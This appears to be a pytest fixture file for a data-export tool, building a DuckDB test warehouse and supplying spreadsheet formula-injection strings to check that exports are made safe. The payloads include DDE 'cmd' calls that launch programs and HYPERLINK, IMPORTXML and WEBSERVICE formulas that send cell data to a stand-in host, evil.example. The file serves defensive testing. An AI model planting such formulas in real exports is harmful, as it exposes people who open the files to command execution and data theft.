"""A real warehouse, a real exports folder, and a few lines to write an export into it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from penstock import registry
from penstock.domain.export import Export
from penstock.domain.relation import RelationName
from penstock.engines.duckdb.engine import PLUGIN
from penstock.errors import Location
from penstock.ports import ExportRequest, Session, WarehouseOptions

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\tplain after a tab",
    "\r=1+1",
    "\rplain after a return",
    "\n=1+1",
    "\nplain after a line feed",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x0b=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠A1",  # noqa: RUF001
    "={1,2}",
    "=\n1+1",
)
HARMLESS = (
    "plain",
    "a=b",
    "1-2",
    "me@example.org",
    "'quoted",
    "",
    "<r><t>not markup</t></r>",
    "é ü 漢字 😀",
    "007",
    "1e5",
)


class Bench:
    def __init__(self, session: Session, folder: Path) -> None:
        self.session = session
        self.folder = folder

    def relation(self, name: str, select: str) -> None:
        self.session.execute(f"CREATE OR REPLACE TABLE serv.{name} AS {select}")

    def texts(self, name: str, texts: tuple[str, ...]) -> None:
        self.session.execute(f"CREATE OR REPLACE TABLE serv.{name} (id INTEGER, text VARCHAR)")
        for number, text in enumerate(texts):
            self.session.execute(f"INSERT INTO serv.{name} VALUES (?, ?)", (number, text))

    def export(self, path: str, *names: str, **given: Any) -> Export:
        kind = given.pop("format", path.split(".")[1])
        relations = tuple(RelationName.parse(name if "." in name else f"serv.{name}") for name in names)
        order = tuple(given.pop("order_by", ()))
        columns = tuple(given.pop("columns", ()))
        where = Location("exports/all.yml", 3)
        return Export("report", kind, relations, path, where, columns, order, options=given)

    def write(self, path: str, *names: str, **given: Any) -> Path:
        """Write an export of the named relations to a new file; the format is the first extension unless given."""
        export, target = self.export(path, *names, **given), self.folder / path
        self.rows = registry.export(export.format).write(ExportRequest(export, self.session, target))
        return target


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    folder = tmp_path / "exports"
    warehouse = PLUGIN.open(WarehouseOptions(home=tmp_path / "home", folders=(folder,)))
    try:
        session = warehouse.session()
        session.execute("CREATE SCHEMA serv")
        yield Bench(session, folder)
    finally:
        warehouse.close()


@pytest.fixture
def payloads() -> tuple[str, ...]:
    return PAYLOADS


@pytest.fixture
def harmless() -> tuple[str, ...]:
    return HARMLESS
